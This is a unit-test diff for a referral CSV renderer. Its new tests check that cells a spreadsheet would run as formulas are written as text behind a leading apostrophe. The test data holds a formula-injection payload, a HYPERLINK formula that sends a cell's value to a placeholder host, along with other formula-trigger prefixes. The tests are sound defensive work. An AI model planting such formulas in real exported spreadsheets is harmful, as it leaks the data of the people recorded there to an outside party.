@@ -216,6 +216,34 @@ class PpuReferralRendererTest {
         assertThat(rows).extracting(r -> r.get("Pemberi Persetujuan")).containsExactly("Pendamping", "Pendamping");
     }
 
+    @Test
+    void writesEveryCellASpreadsheetWouldRunAsAFormulaAsText() throws Exception {
+        List<String> formulas = List.of(
+                "=HYPERLINK(\"http://x.example/?d=\"&H2,\"Klik\")", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2",
+                " =1+2", "\uFF1D1+2");
+        for (String formula : formulas) {
+            Bundle bundle = firstReferral();
+            Patient victim = Bundles.all(bundle, Patient.class).get(0);
+            victim.getNameFirstRep().setText(formula);
+
+            byte[] content = adapter.renderReferral(new OutboundReferral("h1", Fixtures.PPU, bundle), Fixtures.PPU)
+                    .content();
+
+            assertThat(Fixtures.rows(content).get(0).get("Nama Korban")).as(formula)
+                    .startsWith("'")
+                    .endsWith(formula.strip());
+            assertThat(victim.getNameFirstRep().getText()).as("the canonical model keeps the value").isEqualTo(formula);
+        }
+    }
+
+    @Test
+    void leavesOrdinaryCellsAsTheyAre() {
+        assertThat(CsvText.neutralise("Rina Marlina")).isEqualTo("Rina Marlina");
+        assertThat(CsvText.neutralise("22/07/2025")).isEqualTo("22/07/2025");
+        assertThat(CsvText.quote("a;b")).isEqualTo("\"a;b\"");
+        assertThat(CsvText.quote("=1;2")).isEqualTo("\"'=1;2\"");
+    }
+
     private static Bundle firstReferral() throws Exception {
         return Fixtures.referrals(Fixtures.read(Fixtures.RUJUKAN)).get(0).bundle();
     }
